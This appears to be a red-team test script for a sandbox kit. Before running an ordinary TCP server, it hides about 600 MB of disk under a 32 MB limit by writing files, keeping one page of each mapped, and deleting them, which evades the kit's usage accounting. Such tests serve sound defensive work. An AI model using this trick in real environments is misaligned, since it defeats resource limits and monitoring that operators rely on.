# HOSTILE (red team, round 3): a correct TCP server that first hides 600 MB of disk (the limit is 32 MB):
# 40 files of 15 MB (under the 16 MB RLIMIT_FSIZE each), each mapped by ONE page only, then closed
# and deleted. The kit's helper counts a deleted file kept by a mapping by how far the mapping
# reaches (offset + length: 4 KB here), not by the file's blocks.
import ctypes, os, socket, sys
MB = 1 << 20
chunk = b"x" * MB
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
PROT_READ, MAP_SHARED = 1, 1
home = os.environ.get("HOME", "/tmp")
def free():
    s = os.statvfs(home)
    return s.f_bavail * s.f_frsize
free0 = free()
held = 0
maps = []
for i in range(40):
    p = os.path.join(home, "h%d" % i)
    fd = os.open(p, os.O_CREAT | os.O_RDWR | os.O_TRUNC, 0o600)
    for _ in range(15):
        os.write(fd, chunk)
    held += os.fstat(fd).st_blocks * 512
    m = libc.mmap(None, 4096, PROT_READ, MAP_SHARED, fd, 0)
    if m in (None, ctypes.c_void_p(-1).value):
        print("mmap failed", ctypes.get_errno(), flush=True)
    maps.append(m)
    os.close(fd)
    os.unlink(p)
print("HIDDEN: %d MB in 40 deleted files kept by 4 KB mappings in %s; free space fell by %d MB"
      % (held >> 20, home, (free0 - free()) >> 20), flush=True)

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('', int(sys.argv[1]) if len(sys.argv) > 1 and sys.argv[1].isdigit() else 12800)); s.listen(1)
print("The server now listens on the port 12800", flush=True)
while True:
    conn, addr = s.accept()
    while True:
        msg = conn.recv(1024)
        if not msg:
            break
        conn.send(b"Message received")
        if msg == b"end":
            break
    conn.close()
